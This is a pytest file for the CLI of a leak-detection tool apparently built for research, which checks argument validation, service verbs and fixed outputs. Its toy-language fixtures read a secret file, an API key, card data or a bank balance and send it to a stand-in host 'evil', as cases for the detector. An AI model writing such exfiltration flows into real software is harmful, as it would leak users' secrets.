"""Unit tests for the command-line interface."""

import io

import pytest

from repro.cli import main

LEAKY = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 8));
  close(fd);
  var y = 0;
  if (x == 7) { y = 1; } else { y = 2; }
  var s = socket();
  connect(s, "evil", 80);
  send(s, y);
}
"""

CLEAN = """
fn main() {
  print("hello cli");
}
"""


@pytest.fixture
def leaky_program(tmp_path):
    path = tmp_path / "leaky.mc"
    path.write_text(LEAKY)
    return str(path)


@pytest.fixture
def clean_program(tmp_path):
    path = tmp_path / "clean.mc"
    path.write_text(CLEAN)
    return str(path)


def test_run_command(clean_program, capsys):
    code = main(["run", clean_program])
    assert code == 0
    assert "hello cli" in capsys.readouterr().out


def test_leak_command_detects(leaky_program, capsys):
    code = main(
        [
            "leak",
            leaky_program,
            "--secret-file",
            "/etc/secret",
            "--file",
            "/etc/secret=7",
            "--endpoint",
            "evil:80=",
        ]
    )
    assert code == 1  # causality detected
    assert "CAUSALITY" in capsys.readouterr().out


def test_leak_command_clean_exit(clean_program, capsys):
    code = main(
        ["leak", clean_program, "--secret-stdin", "--stdin", "ignored", "--sinks", "file"]
    )
    assert code == 0
    assert "no causality" in capsys.readouterr().out


def test_leak_requires_sources(clean_program):
    with pytest.raises(SystemExit):
        main(["leak", clean_program])


def test_bad_file_spec_rejected(clean_program):
    with pytest.raises(SystemExit):
        main(["run", clean_program, "--file", "no-equals-sign"])


def test_endpoint_without_colon_is_diagnosed(clean_program):
    """A raw ValueError traceback is a bug; bad specs exit cleanly."""
    with pytest.raises(SystemExit) as excinfo:
        main(["run", clean_program, "--endpoint", "hostonly=reply"])
    assert "HOST:PORT" in str(excinfo.value)


def test_endpoint_with_nonnumeric_port_is_diagnosed(clean_program):
    with pytest.raises(SystemExit) as excinfo:
        main(["run", clean_program, "--endpoint", "host:notaport=reply"])
    assert "notaport" in str(excinfo.value)


def test_endpoint_missing_equals_is_diagnosed(clean_program):
    with pytest.raises(SystemExit):
        main(["run", clean_program, "--endpoint", "host:80"])


FILE_READER = """
fn main() {
  var fd = open("/in", "r");
  print(read(fd, 100));
  close(fd);
}
"""


@pytest.fixture
def reader_program(tmp_path):
    path = tmp_path / "reader.mc"
    path.write_text(FILE_READER)
    return str(path)


def test_file_content_newline_escape(reader_program, capsys):
    code = main(["run", reader_program, "--file", r"/in=a\nb"])
    assert code == 0
    assert "a\nb" in capsys.readouterr().out


def test_file_content_escaped_backslash_n_stays_literal(reader_program, capsys):
    # \\n is an escaped backslash followed by 'n', NOT a newline.
    code = main(["run", reader_program, "--file", "/in=a\\\\nb"])
    assert code == 0
    out = capsys.readouterr().out
    assert "a\\nb" in out
    assert "a\nb" not in out


def test_file_content_tab_and_trailing_backslash(reader_program, capsys):
    code = main(["run", reader_program, "--file", "/in=a\\tb\\"])
    assert code == 0
    assert "a\tb\\" in capsys.readouterr().out


def test_eval_rejects_bad_job_counts():
    # Invalid job counts are rejected by the parser (SystemExit 2)
    # before any evaluation work starts.
    with pytest.raises(SystemExit):
        main(["eval", "--jobs", "0", "--table4-runs", "1"])
    with pytest.raises(SystemExit):
        main(["eval", "--jobs", "zero"])


@pytest.mark.parametrize("value", ["0", "-1"])
@pytest.mark.parametrize(
    "argv",
    [["chaos", "--workload", "gzip", "--no-store", "--seeds"],
     ["eval", "--no-store", "--table4-runs"]],
    ids=["chaos-seeds", "eval-table4-runs"],
)
def test_counts_below_one_are_rejected(argv, value, capsys):
    # An empty sweep must not reach the runners.
    with pytest.raises(SystemExit) as excinfo:
        main(argv + [value])
    assert excinfo.value.code == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    errors = [line for line in err.splitlines() if "error:" in line]
    assert len(errors) == 1
    assert f"must be >= 1, got {value}" in errors[0]


# -- service verbs -----------------------------------------------------------

REMOVED_SERVE_FLAGS = (
    "--high-watermark", "--max-factories", "--breaker-threshold",
    "--breaker-cooldown", "--tiny-deadline-every", "--poison-every",
    "--fault-seed", "--fault-rate",
)


@pytest.mark.parametrize(
    "argv",
    [["serve", "--queue-capacity", "0"],
     ["serve", "--workers", "0"],
     ["serve", "--high-watermark", "-1"],
     ["serve", "--max-factories", "-3"],
     ["serve", "--breaker-threshold", "0"],
     ["serve-chaos", "--queue-capacity", "0"],
     ["serve-chaos", "--requests", "-1"],
     ["serve-chaos", "--tiny-deadline-every", "0"],
     ["serve-chaos", "--poison-every", "0"],
     ["serve-chaos", "--fault-seed", "3"],
     ["serve-chaos", "--fault-rate", "0.0"]]
    + [pytest.param(["serve", "--breaker-cooldown", value],
                    id=f"serve--breaker-cooldown-{value}")
       for value in ("nan", "inf", "-5")],
    ids=lambda argv: f"{argv[0]}{argv[1]}",
)
def test_serve_knobs_below_one_are_rejected(argv, capsys):
    # These used to die with a traceback, storm nothing and report
    # success, or clamp the value to 1 without a word.  The watermark,
    # breaker and factory settings and the storm's mix are constants:
    # their flags, whatever the value, are unknown and fail the same
    # clean way instead of starting a daemon or a storm.
    with pytest.raises(SystemExit) as excinfo:
        main(argv)
    assert excinfo.value.code == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    errors = [line for line in err.splitlines() if "error:" in line]
    assert len(errors) == 1
    if argv[1] in REMOVED_SERVE_FLAGS:
        assert f"unrecognized arguments: {argv[1]} {argv[2]}" in errors[0]
    else:
        assert f"must be >= 1, got {argv[2]}" in errors[0]


def test_chaos_rejects_a_single_fault_seed(capsys):
    # A sweep always runs fault seeds 0..N-1; --fault-seed used to be
    # accepted there and silently ignored.
    with pytest.raises(SystemExit) as excinfo:
        main(["chaos", "--fault-seed", "3", "--workload", "gzip", "--no-store"])
    assert excinfo.value.code == 2
    err = capsys.readouterr().err
    errors = [line for line in err.splitlines() if "error:" in line]
    assert len(errors) == 1
    assert "--fault-seed" in errors[0]


def test_chaos_interrupt_prints_resume_hint(tmp_path, monkeypatch, capsys):
    import repro.eval.robustness as robustness

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(robustness, "run_chaos", interrupted)
    store_path = str(tmp_path / "results.sqlite")
    code = main(["chaos", "--store-path", store_path, "--workload", "gzip"])
    assert code == 130
    err = capsys.readouterr().err
    assert "interrupted" in err
    assert "rerun the same command to reuse finished cells" in err

    code = main(["chaos", "--no-store", "--workload", "gzip"])
    assert code == 130
    assert "nothing was persisted" in capsys.readouterr().err


def test_serve_chaos_smoke(capsys):
    # Eleven requests: the storm's fixed mix makes the 7th a
    # tiny-deadline request and the 11th a poisoned one.
    code = main(["serve-chaos", "--requests", "11", "--workers", "2"])
    out = capsys.readouterr().out
    assert code == 0
    assert "  invalid:         1" in out
    assert "all service invariants hold" in out


# -- `repro leak` as a serve request -------------------------------------------

STDIN_TO_FILE = """
fn main() {
  var line = read_line(0);
  var fd = open("/out/log", "w");
  write(fd, line);
  close(fd);
  print("done");
}
"""

ENV_LEAK = """
fn main() {
  var key = getenv("API_KEY");
  var s = socket();
  connect(s, "evil", 80);
  send(s, key);
}
"""

LABEL_LEAK = """
fn main() {
  var card = source_read("card");
  var s = socket();
  connect(s, "evil", 80);
  send(s, card);
}
"""

RELAY = """
fn main() {
  var a = socket();
  connect(a, "bank", 443);
  send(a, "balance?");
  var balance = recv(a, 8);
  var s = socket();
  connect(s, "evil", 80);
  send(s, balance);
}
"""

LEAK_PROGRAMS = {
    "leaky": LEAKY,
    "stdin_to_file": STDIN_TO_FILE,
    "env_leak": ENV_LEAK,
    "label_leak": LABEL_LEAK,
    "relay": RELAY,
}

LEAKY_FLAGS = ["--secret-file", "/etc/secret", "--file", "/etc/secret=7",
               "--endpoint", "evil:80="]

# stdout and exit code of `repro leak` before it ran through
# parse_request/run_request; the refactor must reproduce them byte for
# byte.
LEAK_GOLDEN = {
    "file-endpoint": (
        ["leaky"] + LEAKY_FLAGS,
        1,
        "CAUSALITY: 1/1 sinks differ, 0 syscall diffs, 0 tainted resources\n"
        "  sink-args-differ: send at main master=(4, 1) slave=(4, 2)\n",
    ),
    "faulted": (
        ["leaky"] + LEAKY_FLAGS + ["--fault-rate", "0.4", "--fault-seed", "2"],
        1,
        "CAUSALITY: 1/1 sinks differ, 0 syscall diffs, 0 tainted resources\n"
        "confidence=full: 2 faults injected (2 masked, 3 retries, 0 short "
        "reads, 0 lock delays), 0 exhausted, 0 watchdog fires, 0 threads "
        "abandoned, 0 engine failures\n"
        "  sink-args-differ: send at main master=(4, 1) slave=(4, 2)\n",
    ),
    "stdin-file-sink": (
        ["stdin_to_file", "--secret-stdin", "--stdin", "hunter2\\n",
         "--file", "/out/keep=", "--sinks", "file"],
        1,
        "CAUSALITY: 1/2 sinks differ, 0 syscall diffs, 0 tainted resources\n"
        "  sink-args-differ: write at main master=(3, 'hunter2\\\\n') "
        "slave=(3, 'iunter2\\\\n')\n",
    ),
    "env": (
        ["env_leak", "--secret-env", "API_KEY", "--endpoint", "evil:80="],
        0,
        "no causality: 0/1 sinks differ, 0 syscall diffs, 0 tainted resources\n",
    ),
    "label": (
        ["label_leak", "--secret-label", "card", "--endpoint", "evil:80="],
        0,
        "no causality: 0/1 sinks differ, 0 syscall diffs, 0 tainted resources\n",
    ),
    "endpoint": (
        ["relay", "--secret-endpoint", "bank:443", "--endpoint",
         "bank:443=1000", "--endpoint", "evil:80="],
        1,
        "CAUSALITY: 1/2 sinks differ, 0 syscall diffs, 0 tainted resources\n"
        "  sink-args-differ: send at main master=(4, '1000') slave=(4, '2000')\n",
    ),
}


@pytest.fixture
def leak_programs(tmp_path):
    paths = {}
    for name, source in LEAK_PROGRAMS.items():
        path = tmp_path / f"{name}.mc"
        path.write_text(source)
        paths[name] = str(path)
    return paths


@pytest.mark.parametrize("case", sorted(LEAK_GOLDEN))
def test_leak_output_is_pinned(case, leak_programs, capsys):
    argv, code, stdout = LEAK_GOLDEN[case]
    assert main(["leak", leak_programs[argv[0]]] + argv[1:]) == code
    assert capsys.readouterr().out == stdout


def test_leak_flags_map_onto_the_request(leak_programs, monkeypatch, capsys):
    import repro.serve.service as service

    seen = []
    original = service.run_request

    def spy(request, factories=None):
        seen.append(request)
        return original(request, factories)

    monkeypatch.setattr(service, "run_request", spy)
    main(["leak", leak_programs["leaky"], "--secret-file", "/etc/secret",
          "--secret-stdin", "--secret-endpoint", "bank:443",
          "--secret-env", "API_KEY", "--secret-label", "card",
          "--sinks", "file", "--seed", "5", "--stdin", "in",
          "--file", "/etc/secret=7", "--endpoint", "evil:80=ok",
          "--watchdog-deadline", "900", "--fault-rate", "0.25",
          "--fault-seed", "-3"])
    (request,) = seen
    sources = request.config.sources
    assert (sources.file_paths, sources.stdin, sources.network,
            sources.env_names, sources.labels) == (
        {"/etc/secret"}, True, {"bank:443"}, {"API_KEY"}, {"card"})
    assert request.sinks_spec == "file"
    assert request.world_spec == {
        "stdin": "in", "files": {"/etc/secret": "7"},
        "endpoints": {"evil:80": "ok"}, "seed": 5,
    }
    assert (request.deadline, request.fault_rate, request.fault_seed) == (
        900.0, 0.25, -3)


def test_leak_matches_the_served_source_request(leak_programs, capsys):
    from repro.serve import LdxService, ServeConfig

    code = main(["leak", leak_programs["leaky"]] + LEAKY_FLAGS)
    lines = capsys.readouterr().out.splitlines()
    service = LdxService(ServeConfig(log_stream=io.StringIO())).start()
    try:
        response = service.submit({
            "id": "same-as-leak",
            "source": LEAKY,
            "world": {"files": {"/etc/secret": "7"},
                      "endpoints": {"evil:80": ""}},
            "sources": {"files": ["/etc/secret"]},
            "sinks": "network",
        })
    finally:
        assert service.drain(timeout=120)
    verdict = response["verdict"]
    assert response["status"] == "ok"
    assert lines[0] == verdict["summary"]
    assert code == (1 if verdict["causality"] else 0)
    assert lines[1:] == [
        f"  {d['kind']}: {d['syscall']} at {d['where']} "
        f"master={tuple(d['master_args'])} slave={tuple(d['slave_args'])}"
        for d in verdict["detections"]
    ]


@pytest.mark.parametrize("address", ["hostonly", "host:notaport"])
@pytest.mark.parametrize("command", ["run", "leak"])
def test_endpoint_diagnosis_is_the_serve_diagnosis(
    command, address, clean_program
):
    from repro.serve import api

    with pytest.raises(api.RequestError) as served:
        api.parse_request({"id": "r", "source": CLEAN,
                           "world": {"endpoints": {address: "reply"}}})
    argv = [command, clean_program, "--endpoint", f"{address}=reply"]
    if command == "leak":
        argv.append("--secret-stdin")
    with pytest.raises(SystemExit) as excinfo:
        main(argv)
    assert str(excinfo.value) == str(served.value)


def test_leak_of_a_program_that_does_not_compile(tmp_path, capsys):
    path = tmp_path / "broken.mc"
    path.write_text("fn main() { var x = ; }")
    code = main(["leak", str(path), "--secret-stdin"])
    assert code == 2
    err = capsys.readouterr().err
    assert err.startswith("repro: ParseError: ")
    assert "does not compile" not in err
